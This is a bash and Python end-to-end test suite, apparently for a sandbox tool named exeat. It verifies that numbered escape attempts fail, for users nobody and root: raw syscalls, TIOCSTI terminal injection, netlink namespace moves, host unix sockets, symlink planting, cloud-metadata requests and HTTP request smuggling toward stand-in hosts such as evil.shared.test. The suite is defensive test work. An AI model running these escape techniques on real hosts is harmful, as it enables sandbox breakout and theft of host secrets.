#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Ways out of a run that do not go through the wire: descriptors, namespaces, sockets of the host,
# process 1, the kernel's knobs; the host's own addresses; bytes that only some servers take for
# HTTP; and using things up. As a user and as root.
# shellcheck disable=SC2016 # what stands in single quotes runs inside

. "$(dirname "$0")/../lib/e2e.sh"
world_enter "$@"
world_up

here=$WORLD/tmp
chmod 711 "$WORLD"

# run POLICY USER COMMAND…
run() {
	"$EXEAT" run -q -p "$POLICIES/$1.yaml" --user "$2" --log "$WORLD/log/audit" -- "${@:3}"
}

# run_logged FILE [OPTION…]: a run that writes its log there
run_logged() {
	"$EXEAT" run -q -p "$POLICIES/sni.yaml" --user nobody --log "$1" "${@:2}" -- true
}

# ---- system calls, process 1, knobs: the same for both ----
cat >"$here/calls.py" <<'END'
import ctypes, errno, os, socket, subprocess

libc = ctypes.CDLL(None, use_errno=True)

def syscall(number, *args):
    r = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if r < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return r

def refused(what, fn):
    try:
        got = fn()
        print(f"not ok - {what} (got {got!r})")
    except OSError:
        print(f"ok - {what}")

def shell(command):
    done = subprocess.run(["unshare", "-Urmpnf", "bash", "-ec", command], capture_output=True, text=True)
    if done.returncode:
        raise OSError(done.returncode, done.stderr)
    return done.stdout

def write(path):
    with open(path, "w") as f:
        return f.write("1")

nothing = ctypes.create_string_buffer(256)
for name, family in dict(TIPC=30, ALG=38, VSOCK=40, KCM=41, QIPCRTR=42, SMC=43, XDP=44, CAN=29, RDS=21,
                         KEY=15, BLUETOOTH=31, none=2000).items():
    refused(f"socket family {name}", lambda: syscall(41, family, 1, 0))
refused("a family with bits above", lambda: syscall(41, 1 << 32 | 40, 1, 0))
for family in 2, 10:
    try:
        syscall(41, family, 1, 256)
        print(f"not ok - SMC as a protocol of family {family}")
    except OSError as e:  # EPROTONOSUPPORT would be the word of a kernel that has none
        print("ok" if e.errno == errno.EAFNOSUPPORT else "not ok", f"- SMC as a protocol of family {family}")
refused("the x32 call of socket()", lambda: syscall(0x40000000 | 41, 2, 1, 0))
refused("io_uring", lambda: syscall(425, 8, nothing))
# ENOENT would be the kernel's word: the program that it looked for, outside, is not installed
for call, number in dict(add_key=248, request_key=249, keyctl=250).items():
    try:
        syscall(number, b"dns_resolver", b"stolen.evil.example", b"", -2)
        print(f"not ok - attack 102: {call}")
    except OSError as e:
        print("ok" if e.errno == errno.ENOSYS else "not ok", f"- attack 102: {call}")
refused("setns", lambda: syscall(308, os.open("/proc/self/ns/net", os.O_RDONLY), 0))
refused("bpf", lambda: syscall(321, 0, nothing, 72))
refused("mount", lambda: syscall(165, b"none", b"/mnt", b"tmpfs", 0, 0))
refused("taking /run's cover off", lambda: syscall(166, b"/run", 2))
refused("chroot", lambda: syscall(161, b"/tmp"))
refused("a device node", lambda: os.mknod(os.environ["TMPDIR"] + "/disk", 0o60600, os.makedev(254, 0)))
refused("a handle to a file", lambda: syscall(304, os.open("/", os.O_RDONLY), nothing, 0))
refused("ptrace of process 1", lambda: syscall(101, 0x4206, 1, 0, 0))
refused("a descriptor of process 1", lambda: syscall(438, os.pidfd_open(1), 3, 0))
for part in "mem", "environ", "root/.", "fd/3":
    refused(f"/proc/1/{part}", lambda: os.open(f"/proc/1/{part}", os.O_RDONLY))
for knob in ("/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger",
             "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/kernel/mm/ksm/run"):
    refused(f"writing {knob}", lambda: write(knob))
for command in ("true", "umount /run", "umount /proc/sys", "mount -t proc proc /proc", "mount -t sysfs sysfs /sys",
                "mount -t cgroup2 none /mnt", "mount --bind /run /mnt", "mount -o remount,rw,bind /sys"):
    refused(f"in a user namespace: {command}", lambda: shell(command))
for sig in 9, 19:
    try:
        os.kill(1, sig)
    except OSError:
        pass
print("ok - process 1 lives on")
END
for user in nobody root; do
	out=$(run sni $user python3 "$here/calls.py" 2>&1 </dev/null)
	tap_import "${out//ok - /ok - $user: }" -
	has "$user: all of that was tried" "$out" 'process 1 lives on'
done

# ---- on a terminal, which the caller's shell reads from as well ----
cat >"$here/typing.py" <<'END'
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
def call(what, number, command, arg, wanted):
    for above in 0, 1, 0xffffffff:
        ctypes.set_errno(0)
        libc.syscall(ctypes.c_long(number), ctypes.c_long(0), ctypes.c_ulong(above << 32 | command), arg)
        bad = "" if ctypes.get_errno() == wanted else "not "
        print(f"{bad}ok - {what}, with {above:#x} above its 32 bits")
call("attack 106: TIOCSTI", 16, 0x5412, b"\x02", errno.EPERM)
call("attack 106: TIOCLINUX", 16, 0x541c, b"\x02", errno.EPERM)
call("attack 144: FIOASYNC", 16, 0x5452, b"\1\0\0\0", errno.EPERM)
call("attack 144: O_ASYNC", 72, 4, ctypes.c_ulong(os.O_ASYNC | os.O_NONBLOCK), errno.EPERM)
call("(O_NONBLOCK is to be had)", 72, 4, ctypes.c_ulong(os.O_NONBLOCK), 0)
END
for user in nobody root; do
	python3 -c 'import pty, sys; pty.spawn(sys.argv[1:])' "$EXEAT" run -q -p "$POLICIES/sni.yaml" --user $user -- \
		sh -c 'test -t 0 && python3 "$0" >"$1"' "$here/typing.py" "$here/typed-$user" >/dev/null 2>&1 </dev/null
	out=$(cat "$here/typed-$user" 2>&1)
	tap_import "${out//ok - /ok - $user: }" 15
done

# There it is in the process group of exeat, too, which must live to write down what was done.
cat >"$here/kill.py" <<'END'
import os
for uid in 0x7e000001, 0x7f000001:  # as which exeat's own processes run
    try:
        os.setresuid(uid, uid, 0)
        print("got", uid)
    except OSError:
        pass
print("tried", flush=True)
os.kill(0, 9)
END
cat >"$here/stop.py" <<'END'
import os, signal, socket, termios
os.setpgid(0, 0)
signal.signal(signal.SIGTTOU, signal.SIG_IGN)
os.tcsetpgrp(0, os.getpgrp())
mode = termios.tcgetattr(0)
mode[3] |= termios.TOSTOP  # who else writes there is stopped
termios.tcsetattr(0, termios.TCSANOW, mode)
print("tried", flush=True)
try:
    socket.create_connection(("203.0.113.66", 80), 20)
except OSError:
    pass
END
cat >"$here/async.py" <<'END'
import fcntl, os, signal, time
fcntl.fcntl(0, 10, signal.SIGKILL)  # F_SETSIG: what is sent when the terminal takes more
try:
    fcntl.fcntl(0, fcntl.F_SETFL, os.O_RDWR | os.O_ASYNC)
except OSError:
    pass
os.set_blocking(0, False)
print("tried", flush=True)
for _ in range(200):
    try:
        os.write(0, bytes(65536))
    except BlockingIOError:
        time.sleep(0.005)
END
at_terminal() { # USER PROGRAM: its output is in the file "said", how it ended in "ended"
	rm -f "$here"/{said,ended} "$WORLD/log/terminal"
	: >"$here/said"
	chmod 666 "$here/said"
	python3 -c 'import pty, sys; pty.spawn(sys.argv[1:])' bash -mc '"${@:2}"; echo $? >"$1"' - "$here/ended" \
		"$EXEAT" run -p "$POLICIES/sni.yaml" --user "$1" --log "$WORLD/log/terminal" -- \
		sh -c 'exec python3 "$0" >"$1"' "$2" "$here/said" >/dev/null 2>&1 </dev/null
	has "$1: attack 110 was tried: ${2##*/}" "$(cat "$here/said")" '^tried'
	hasnt "$1: as nobody of exeat" "$(cat "$here/said")" '^got'
}
for user in nobody root; do
	at_terminal $user "$here/kill.py"
	same "$user: attack 110: it ends itself" "$(cat "$here/ended")" 137
	has "$user: and not exeat" "$(tail -n 1 "$WORLD/log/terminal")" '"type":"summary"'
	at_terminal $user "$here/async.py"
	same "$user: attack 144: nobody is signalled by the terminal" "$(cat "$here/ended")" 0
	has "$user: exeat least of all" "$(tail -n 1 "$WORLD/log/terminal")" '"type":"summary"'
	at_terminal $user "$here/stop.py"
	same "$user: attack 110: exeat is not stopped when it writes" "$(cat "$here/ended")" 0
	has "$user: what was denied is written down" "$(cat "$WORLD/log/terminal")" '203.0.113.66'
done

# ---- a socket for stdin, as node and sshd give it: its namespace is the outer one ----
cat >"$here/netlink.py" <<'END'
import fcntl, os, socket, struct

def attr(kind, data):
    return struct.pack("HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)

def ask(kind, flags, body):
    nl.send(struct.pack("IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body)
    reply = nl.recv(65536)
    return struct.unpack("i", reply[16:20])[0] if struct.unpack("H", reply[4:6])[0] == 2 else 0

def link(index=0, flags=0, change=0):
    return struct.pack("BxHiII", 0, 0, index, flags, change)

nl = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
nl.bind((0, 0))
try:
    ns = fcntl.ioctl(0, 0x894C)  # SIOCGSKNS
    print("OPEN: the namespace of stdin")
    ask(88, 0, bytes(4) + attr(1, struct.pack("i", 77)) + attr(3, struct.pack("I", ns)))
    info = attr(18, attr(1, b"macvlan\0") + attr(2, attr(1, struct.pack("I", 4))))
    for i in range(2, 9):
        if ask(16, 0x600, link() + attr(3, b"mv\0") + attr(5, struct.pack("I", i)) +
               attr(37, struct.pack("i", 77)) + info) == 0:
            print("OPEN: an interface on the host's uplink")
except OSError as e:
    print("stdin:", e)
# the namespace at the other end of eth0 has a number here
there = attr(46, struct.pack("i", 0))
if ask(18, 0, link(2) + there) == 0:
    print("OPEN: the gate's interface can be looked at")
if ask(16, 0, link(2, 0, 1) + there) == 0:
    print("OPEN: the gate's interface goes down")
if ask(17, 0, link(2) + there) == 0:
    print("OPEN: the gate's interface is deleted")
print("tried")
END
cat >"$here/with-socket.py" <<'END'
import socket, subprocess, sys
ours, theirs = socket.socketpair()
sys.exit(subprocess.run(sys.argv[1:], stdin=theirs).returncode)
END
for user in nobody root; do
	out=$(python3 "$here/with-socket.py" "$EXEAT" run -q -p "$POLICIES/sni.yaml" --user $user -- \
		python3 "$here/netlink.py" 2>&1)
	has "$user: netlink was tried" "$out" '^tried'
	hasnt "$user: no other namespace is in reach" "$out" 'OPEN'
done

# ---- unix sockets of the host ----
cat >"$here/listen.py" <<'END'
import os, socket, sys, threading, time
os.umask(0)
if len(sys.argv) > 2:
    os.chdir(sys.argv[2])
s = socket.socket(socket.AF_UNIX)
s.bind(sys.argv[1])
s.listen(8)
while True:
    s.accept()[0].send(b"HOST-SERVICE")
END
cat >"$here/dial.py" <<'END'
import socket, sys
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path.replace("@", "\0"))
        print(path, s.recv(99))
    except OSError as e:
        print(path, e)
END
mkdir -p /run/service "$here/dir"
python3 "$here/listen.py" /run/service/sock &
python3 "$here/listen.py" "$here/before.sock" &
unshare -n python3 "$here/listen.py" "$here/elsewhere.sock" &
# The kernel lists names as they are: line by line this is another one, of a socket that does not listen.
lines=$here/one$'\n0000000000000000: 00000002 00000000 00000000 0001 01 9 /two'
mkdir -p "${lines%/two}"
python3 "$here/listen.py" "$lines" &
world_wait 60 test -S "$here/elsewhere.sock" -a -S "$here/before.sock" -a -S /run/service/sock -a -S "$lines"
for path in /run/service/sock "$here/before.sock" "$here/elsewhere.sock" "$lines"; do
	has "(outside it answers, $path)" "$(python3 "$here/dial.py" "$path" 2>&1)" 'HOST-SERVICE'
done
for user in nobody root; do
	out=$(cd /run/service && run sni $user python3 "$here/dial.py" sock /run/service/sock ../service/sock 2>&1)
	hasnt "$user: the working directory does not lead under /run's cover" "$out" 'HOST-SERVICE'
	out=$(run sni $user python3 "$here/dial.py" "$here/before.sock" 2>&1)
	hasnt "$user: a socket outside of /run is covered" "$out" 'HOST-SERVICE'
	out=$(run sni $user python3 "$here/dial.py" "$here/elsewhere.sock" 2>&1)
	hasnt "$user: also one of another network namespace" "$out" 'HOST-SERVICE'
	out=$(run sni $user python3 "$here/dial.py" "$lines" 2>&1)
	hasnt "$user: attack 143: and one with line feeds in its name" "$out" 'HOST-SERVICE'
done

# What covers a socket moves along with its folder; a second mount of where it is moved to would not have
# the cover. So there are user namespaces, but no mount namespaces in them.
cat >"$here/beneath.py" <<'END'
import ctypes, os, sys
libc = ctypes.CDLL(None)
os.chdir(sys.argv[1])
print("tried", flush=True)
if libc.unshare(0x10020000) == 0 and libc.mount(b"beside", b"here", None, 4096, None) == 0:
    os.rename("sub", "beside/sub")
    os.execvp("python3", ["python3", sys.argv[2], "here/sub/sock"])
END
for user in nobody root; do
	mkdir -p "$here/of-$user"/{sub,beside,here}
	chown -R $user "$here/of-$user"
	python3 "$here/listen.py" "$here/of-$user/sub/sock" &
	world_wait 60 test -S "$here/of-$user/sub/sock"
	out=$(run sni $user python3 "$here/beneath.py" "$here/of-$user" "$here/dial.py" 2>&1)
	has "$user: attack 103 was tried" "$out" '^tried'
	hasnt "$user: attack 103: no other mount shows the socket that is covered" "$out" 'HOST-SERVICE'
	has "(outside it answers there, $user)" "$(python3 "$here/dial.py" "$here/of-$user/sub/sock")" 'HOST-SERVICE'
done
# Nor is the folder moved for a later run, which would look for the socket where it was bound.
for user in nobody root; do
	mkdir -p "$here/folders-$user/up/sub"
	chown -R nobody "$here/folders-$user"
	python3 "$here/listen.py" "$here/folders-$user/up/sub/sock" &
	world_wait 60 test -S "$here/folders-$user/up/sub/sock"
	out=$(cd "$here/folders-$user" && run sni $user sh -c 'mv up/sub up/moved; mv up moved; mv ../"$0" "../$0-moved"; echo tried' "folders-$user" 2>&1)
	has "$user: attack 105 was tried" "$out" '^tried'
	out=$(run sni $user sh -c 'python3 "$0" $(find "$1" -name sock)' "$here/dial.py" "$here" 2>&1)
	has "$user: (in the next run it was tried)" "$out" "folders-$user/up/sub/sock.*refused"
	hasnt "$user: attack 105: the next run does not find the socket elsewhere" "$out" 'HOST-SERVICE'
done
has "a user namespace is to be had" "$(run sni nobody unshare -Urn echo made 2>&1)" '^made'

# ---- devices that are networks ----
mkdir -p "$here/dev/infiniband"
echo opened >"$here/dev/vhost-vsock"
: >"$here/dev/infiniband/uverbs0"
for dev in null zero full random urandom tty; do
	: >"$here/dev/$dev"
	mount --bind "/dev/$dev" "$here/dev/$dev"
done
for user in nobody root; do
	out=$(unshare -m sh -c 'mount --rbind "$1" /dev && shift && exec "$@"' - "$here/dev" "$EXEAT" run -q \
		-p "$POLICIES/sni.yaml" --user $user -- sh -c 'ls /dev; echo; ls -A /dev/infiniband; cat /dev/vhost-vsock' 2>&1)
	has "$user: there is a folder for RDMA devices" "$out" '^infiniband'
	hasnt "$user: attack 104: with none in it" "$out" 'uverbs'
	hasnt "$user: attack 111: no virtual machine's end of vsock" "$out" 'opened'
done

# ---- the host's own addresses, old and new ----
cat >"$here/http.sh" <<'END'
for a; do printf '%s ' "$a"; curl -sgm60 --http0.9 "http://$a/" | head -c 200; echo; done
END
host=("$OUTER4:9009" "[$OUTER6]:9009" 127.0.0.1:9009 127.1:9009 0.0.0.0:9009 "[::1]:9009" 192.0.0.1:9009
	"[::ffff:$OUTER4]:9009" '[64:ff9b::c633:6402]:9009' '[2002:c633:6402::1]:9009' "$META4" "[$META6]"
	'[64:ff9b::a9fe:a9fe]' 2852039166 0xa9fea9fe)
for user in nobody root; do
	out=$(run world $user bash "$here/http.sh" "$EVIL4" "[$EVIL6]" "${host[@]}" 2>&1)
	same "$user: the world is open" "$(grep -c stolen <<<"$out")" 2
	hasnt "$user: the world is not the host, nor its metadata" "$out" 'HOST-SERVICE|SECRET'
done

# what the host gets later is the host's, too: another address of a subnet, one of its own, a local route
cat >"$here/later.py" <<'END'
import os, socket, sys, time
open(sys.argv[1], "w").close()
while not os.path.exists(sys.argv[1] + ".go"):
    time.sleep(0.02)
for a in sys.argv[2:]:
    try:
        s = socket.create_connection((a, 9009), 20)
        s.send(b"GET / HTTP/1.0\r\n\r\n")
        print(a, "OPEN", s.recv(99))
    except OSError as e:
        print(a, e)
END
run world root python3 "$here/later.py" "$here/ready" 198.51.100.9 192.0.2.10 100.99.1.1 >"$here/later" 2>&1 &
job=$!
world_wait 60 test -e "$here/ready"
ip addr add 198.51.100.9/24 dev up0
ip addr add 192.0.2.10/32 dev up0
ip route add local 100.99.0.0/16 dev lo
touch "$here/ready.go"
wait $job
for a in 198.51.100.9 192.0.2.10 100.99.1.1; do
	has "$a was tried" "$(cat "$here/later")" "^$a "
	# An accepted connection that ends without a byte is exeat's; only the service's own words count.
	hasnt "$a, which the host got later, is not the world" "$(cat "$here/later")" "^$a OPEN b'HTTP"
done
ip addr del 198.51.100.9/24 dev up0
ip addr del 192.0.2.10/32 dev up0
ip route del local 100.99.0.0/16 dev lo

# ---- what only some servers take for a request must not pass as an unknown protocol ----
cat >"$here/http-like.py" <<'END'
import socket, time
HOST = b"Host: evil.shared.test\r\nConnection: close\r\n\r\n"
GET = b"GET / HTTP/1.1\r\n" + HOST
cases = {
    "another character in the method": [b"M_X / HTTP/1.1\r\n" + HOST],
    "a digit in the method": [b"GET1 / HTTP/1.1\r\n" + HOST],
    "a long method": [b"A" * 30 + b" / HTTP/1.1\r\n" + HOST],
    "a vertical tab in front": [b"\x0b" + GET],
    "a unit separator in front": [b"\x1f" + GET],
    "many empty lines in front": [b"\r\n" * 2100, GET],
    "a long target, cut": [b"FOO /" + b"a" * 4200, b" HTTP/1.1\r\n" + HOST],
    "a lower case version": [b"FOO / http/1.1\r\n" + HOST],
    "a ClientHello in an SSLv2 record": [bytes.fromhex(
        "803b 0103030012000000200000 9d00009c00002f0000350000ff00000a".replace(" ", "")) + b"R" * 32],
}
address = socket.getaddrinfo("good.rebind.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]
for what, parts in cases.items():
    s = socket.create_connection(address, 60)
    s.settimeout(5)
    reply = b""
    try:
        for part in parts:
            s.sendall(part)
            time.sleep(0.15)
        while got := s.recv(4096):
            reply += got
    except OSError:
        pass
    passed = b" 200 " in reply or b"nginx" in reply
    print(f"{'not ok' if passed else 'ok'} - {what}{' ' + repr(reply[:80]) if passed else ''}")
END
world_forget
out=$(run names nobody python3 "$here/http-like.py" 2>&1)
tap_import "$out" 9
unseen "no server saw a request for a name that no rule allows" 'evil\.shared\.test'

# ---- files that root writes for a user: what the workload left there is not followed ----
theirs=$here/theirs
mkdir -p "$theirs/logs" "$here/roots"
chown -R nobody "$theirs"
chmod 700 "$here/roots"
as_nobody() { setpriv --reuid=65534 --regid=65534 --clear-groups "$@"; }
learn() { # FILE
	SUDO_UID=65534 SUDO_GID=65534 "$EXEAT" learn -o "$1" -- true
}
check "(a log in a user's folder)" run_logged "$theirs/logs/plain"
check "(a learned policy in a user's folder)" learn "$theirs/plain.yaml"
same "(it is the user's)" "$(stat -c %u "$theirs/plain.yaml")" 65534
ln -s "$theirs/logs" "$here/link-of-root"
check "(a link of root's is followed)" run_logged "$here/link-of-root/linked"
check "(and what is open already is a file as well)" run_logged /dev/stdout
check "(a signed log)" "$EXEAT" audit key "$here/key"
check "(in a user's folder)" run_logged "$theirs/logs/signed" --log-key "$here/key"
as_nobody ln -s "$here/roots/planted" "$theirs/log"
as_nobody ln -s "$here/roots" "$theirs/dir"
refuse "attack 101: no log by a user's link" run_logged "$theirs/log"
refuse "attack 101: nor through one" run_logged "$theirs/dir/planted"
refuse "attack 101: nor a signed one" run_logged "$theirs/dir/planted" --log-key "$here/key"
refuse "attack 101: no learned policy through one" learn "$theirs/dir/planted.yaml"
refuse "attack 101: no key by one" "$EXEAT" audit key "$theirs/log"
same "attack 101: nothing is where they lead" "$(ls -A "$here/roots")" ""

# ---- a policy that the command could write anew, while it is watched ----
watched() { # FILE
	"$EXEAT" run -q --watch --user nobody -p "$1" -- true 2>&1
}
mkdir -p "$here/roots/kept" "$theirs/kept"
cp "$POLICIES/sni.yaml" "$here/roots/kept/policy.yaml"
cp "$POLICIES/sni.yaml" "$theirs/kept/policy.yaml"
cp "$POLICIES/sni.yaml" "$here/roots/theirs.yaml"
chown nobody "$here/roots/theirs.yaml"
cp "$POLICIES/sni.yaml" "$here/roots/open.yaml"
chmod 666 "$here/roots/open.yaml"
ln -s "$here/roots/kept" "$here/roots/link"
ln -s ../theirs "$here/roots/by-theirs"
ln -s "$here/roots/kept" "$theirs/by-roots"
as_nobody ln -s "$here/roots/kept/policy.yaml" "$here/link-of-theirs"
for file in kept/policy.yaml link/policy.yaml; do
	same "root's policy is watched: $file" "$(watched "$here/roots/$file")" ''
done
for file in "$here"/roots/{theirs,open,by-theirs/kept/policy}.yaml "$theirs"/{kept,by-roots}/policy.yaml \
	"$here/link-of-theirs"; do
	has "attack 85: one that the command can change is not: ${file#"$here"/}" "$(watched "$file")" 'can be changed by the command'
done
has "attack 85: named from where it is" "$(cd "$theirs/kept" && watched policy.yaml)" 'can be changed by the command'

# ---- without standard descriptors: what is opened first does not take their place ----
run sni nobody sh -c 'ls -l /proc/self/fd >"$0"; exit 7' "$theirs/fds" <&- >&- 2>&-
same "it runs without standard descriptors" $? 7
same "and has some that lead nowhere" "$(grep -c ' [02] -> /dev/null' "$theirs/fds")" 2
hasnt "but none of exeat's" "$(cat "$theirs/fds")" 'socket:|anon_inode|net:|/log/'

# ---- a signal that comes before the command waits for it ----
"$EXEAT" run -q -p "$POLICIES/sni.yaml" --user nobody -- sleep 60 &
job=$!
# Its proxies are held before they are ready, until it takes signals itself.
world_wait 60 pgrep -P $job -x exeat-proxy >/dev/null
mapfile -t proxies < <(pgrep -P $job -x exeat-proxy)
kill -STOP "${proxies[@]}"
check "(it has not started the command)" world_wait 60 grep -q '^SigBlk:.*[1-9]' "/proc/$job/status"
kill -TERM $job
sleep 0.3
kill -CONT "${proxies[@]}"
started=$EPOCHREALTIME
wait $job
same "SIGTERM before the command is started ends it" $? 143
at_once "at once" 30 "$started"

# ---- SIGKILL while it starts ----
cat >"$here/eager.sh" <<'END'
while :; do curl -sm1 http://169.254.169.254/; curl -skm1 https://203.0.113.66/; done >>"$1" 2>/dev/null
END
: >"$here/leak"
chmod 666 "$here/leak"
for i in $(seq 1 25); do
	"$EXEAT" run -q -p "$POLICIES/sni.yaml" --user nobody -- bash "$here/eager.sh" "$here/leak" &
	sleep "0.$(printf %03d $((i * 8)))"
	kill -KILL $! && wait $! 2>/dev/null
done 2>/dev/null
same "killed at any moment of its start: nothing leaks" "$(cat "$here/leak")" ""
: >"$here/outside"
bash "$here/eager.sh" "$here/outside" &
job=$!
world_wait 60 grep -q SECRET "$here/outside"
kill $job
wait $job 2>/dev/null
has "outside of a run it would" "$(cat "$here/outside")" SECRET
none_left() { ! pgrep -f 'eager[.]sh|exeat-(proxy|init)' && ! pgrep -x 'exeat|exeat-proxy|exeat-init'; }
world_wait 60 none_left
same "and no process is left" "$(pgrep -af 'eager[.]sh' | head -n3)" ""

# ---- using things up: the run suffers, nothing else does ----
cat >"$here/hold.py" <<'END'
import os, socket, sys, time
server = (socket.gethostbyname("good.rebind.test"), 80)
held = []
for i in range(220):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(server if i < 180 else ("192.0.0.1", 53))
    if i < 180:
        time.sleep(0.002)
        try:
            s.send(b"opaque\n")
        except OSError:
            pass
    held.append(s)
print("held", flush=True)
while not os.path.exists(sys.argv[1]):
    time.sleep(0.05)
END
ticks() { awk '{print $14 + $15}' "/proc/$1/stat"; }
(
	ulimit -n 256
	run names nobody python3 "$here/hold.py" "$here/let-go" >"$here/held" 2>&1
) &
job=$!
world_wait 60 grep -q held "$here/held"
sleep 1
proxy=$(pgrep -xn exeat-proxy)
if [ -n "$proxy" ]; then
	tap_ok "without descriptors left the proxy lives on"
	spent=$(ticks "$proxy")
	sleep 1
	spent=$(($(ticks "$proxy") - spent))
	if [ "$spent" -lt 50 ]; then
		tap_ok "and waits: it does not spin"
	else
		tap_not_ok "and waits: it does not spin" "$spent ticks in a second"
	fi
else
	tap_not_ok "without descriptors left the proxy lives on" "$(cat "$here/held")"
fi
out=$(run l4 nobody bash -c "echo through | nc -N -w60 $ECHO4 7777" 2>&1)
same "another run does not feel it" "$out" through
touch "$here/let-go"
wait $job

# ---- the proxy is a program of its own: nothing of the one that started it is in it ----
refuse "the proxy is started by exeat only" "$EXEAT" proxy
hasnt "nobody is told of it" "$("$EXEAT" --help)" '^  proxy'
(
	export IN_THE_PARENT=only-in-the-parent
	run l4 nobody sh -c 'until [ -e "$0" ]; do sleep 0.05; done' "$here/looked"
) >/dev/null 2>&1 &
job=$!
world_wait 60 pgrep -xn exeat-proxy >/dev/null
proxy=$(pgrep -xn exeat-proxy)
has "the parent has it in its environment" "$(tr '\0' '\n' <"/proc/$(awk '/PPid/ {print $2}' "/proc/$proxy/status")/environ")" only-in-the-parent
hasnt "the parent's environment is not in the proxy" "$(tr '\0' '\n' <"/proc/$proxy/environ")" parent
sleep 1
python3 - "$proxy" >"$here/memory" 2>&1 <<'END'
import re
import sys
found = 0
with open(f"/proc/{sys.argv[1]}/mem", "rb") as mem:
    for line in open(f"/proc/{sys.argv[1]}/maps"):
        low, high, mode = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
        if mode.startswith("rw"):
            mem.seek(int(low, 16))
            found += b"only-in-" b"the-parent" in mem.read(int(high, 16) - int(low, 16))
print("found", found)
END
same "nor in its memory" "$(cat "$here/memory")" "found 0"
touch "$here/looked"
wait $job

tap_done
